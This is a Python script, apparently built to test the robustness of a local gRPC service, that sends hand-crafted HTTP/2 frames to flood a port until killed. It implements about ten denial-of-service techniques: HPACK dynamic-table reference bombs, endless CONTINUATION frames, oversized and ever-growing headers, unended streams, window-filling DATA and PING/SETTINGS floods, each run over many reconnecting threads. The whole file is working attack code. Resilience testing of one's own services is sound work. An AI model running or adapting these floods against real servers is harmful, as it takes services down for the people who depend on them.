"""Attack a gRPC port without a token by raw HTTP/2 frames: `flood.py PORT WAY CONNECTIONS [ACK_SECONDS]`, until killed.

Each connection has a thread that writes as fast as the server reads, and dials again when the server ends it. Most ways
never read an answer. With ACK_SECONDS, each connection acknowledges the server's settings after that time.
"""

import contextlib
import itertools
import socket
import sys
import threading
import time
from collections.abc import Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, PING, CONTINUATION = 0, 1, 4, 6, 9
ACK, END_STREAM, END_HEADERS = 0x1, 0x1, 0x4
MAX_FRAME = 16_384
LARGE = 4_000  # bytes; the dynamic table has 4,096
NEWEST = b"\xbe"  # refers to the newest entry of the dynamic table
BATCH = 50  # calls that are written at once
ENTRIES = 500_000  # of one call


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """Encode an HPACK integer with a prefix of `bits`."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    encoded, value = bytes([first | limit]), value - limit
    while value >= 128:
        encoded, value = encoded + bytes([value % 128 | 128]), value // 128
    return encoded + bytes([value])


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    return bytes([0x40 if indexed else 0]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(method: bytes) -> bytes:
    fields = {b":method": b"POST", b":scheme": b"http", b":path": method, b":authority": b"x"}
    fields |= {b"te": b"trailers", b"content-type": b"application/grpc"}
    return b"".join(literal(name, value) for name, value in fields.items())


METHOD = b"/embereye.v1.Alarms/Follow"
ENTRY = literal(b"x", b"y" * LARGE, indexed=True)


def bomb(references: int = 3_000, flags: int = END_HEADERS) -> Iterator[bytes]:
    """Calls whose headers refer again and again to one large entry."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request(METHOD) + ENTRY)
    block = request(METHOD) + NEWEST * references
    for batch in itertools.count(0):
        streams = range(3 + 2 * BATCH * batch, 3 + 2 * BATCH * (batch + 1), 2)
        yield b"".join(frame(HEADERS, flags, stream, block) for stream in streams)


def small_bomb() -> Iterator[bytes]:
    """Calls of `bomb` below the limit of metadata."""
    return bomb(references=3)


def ended() -> Iterator[bytes]:
    """Calls of `bomb` that end their request."""
    return bomb(flags=END_HEADERS | END_STREAM)


def continuation() -> Iterator[bytes]:
    """One call whose headers never end, and refer to a large entry."""
    yield frame(HEADERS, 0, 1, request(METHOD) + ENTRY)
    while True:
        yield frame(CONTINUATION, 0, 1, NEWEST * MAX_FRAME)


def endless() -> Iterator[bytes]:
    """One header whose value never ends."""
    yield frame(HEADERS, 0, 1, request(METHOD) + b"\0\x01x" + integer(2**30, 7))
    while True:
        yield frame(CONTINUATION, 0, 1, b"y" * MAX_FRAME)


def many_fields() -> Iterator[bytes]:
    """One call with ever new small headers, which never end."""
    yield frame(HEADERS, 0, 1, request(METHOD))
    for batch in itertools.count():
        fields = b"".join(literal(b"k%d" % (1000 * batch + number), b"") for number in range(1000))
        yield frame(CONTINUATION, 0, 1, fields[:MAX_FRAME])


def entries() -> Iterator[bytes]:
    """Calls with very many small entries, whose headers do end."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request(METHOD) + literal(b"x", b"", indexed=True))
    fields = [NEWEST * min(MAX_FRAME, ENTRIES - start) for start in range(0, ENTRIES, MAX_FRAME)]
    for stream in itertools.count(3, 2):
        frames = [frame(CONTINUATION, 0, stream, part) for part in fields[:-1]]
        last = frame(CONTINUATION, END_HEADERS, stream, fields[-1])
        yield frame(HEADERS, END_STREAM, stream, request(METHOD)) + b"".join(frames) + last


def unended() -> Iterator[bytes]:
    """Calls that never end their request."""
    return bomb(references=0)


def data() -> Iterator[bytes]:
    """Calls that send as much of a message as their window permits."""
    yield b""
    for batch in itertools.count():
        for stream in range(1 + 2 * BATCH * batch, 1 + 2 * BATCH * (batch + 1), 2):
            message = b"\0" + (8 * 2**20).to_bytes(4) + bytes(MAX_FRAME - 5)
            chunks = [frame(DATA, 0, stream, chunk) for chunk in (message, bytes(MAX_FRAME), bytes(MAX_FRAME))]
            yield frame(HEADERS, END_HEADERS, stream, request(METHOD)) + b"".join(chunks)


def pings() -> Iterator[bytes]:
    """Pings whose answers nobody reads, and settings to confirm."""
    while True:
        yield (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)) * 500


WAYS = {
    way.__name__: way
    for way in (bomb, small_bomb, ended, continuation, endless, many_fields, entries, unended, data, pings)
}


def attack(port: int, way: str, acknowledge_after: float | None, sent: list[int]) -> None:
    """Attack without end; adds the bytes that were sent to `sent`."""
    while True:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            if acknowledge_after is not None:
                connection.recv(1)
                time.sleep(acknowledge_after)
                connection.sendall(frame(SETTINGS, ACK, 0))
            for chunk in WAYS[way]():
                connection.sendall(chunk)
                sent.append(len(chunk))
        time.sleep(0.05)


if __name__ == "__main__":
    sizes: list[int] = []
    acknowledge = float(sys.argv[4]) if len(sys.argv) > 4 else None
    for _ in range(int(sys.argv[3])):
        threading.Thread(target=attack, args=(int(sys.argv[1]), sys.argv[2], acknowledge, sizes), daemon=True).start()
    while True:
        time.sleep(1)
        print(f"{sum(sizes)} bytes sent", file=sys.stderr, flush=True)
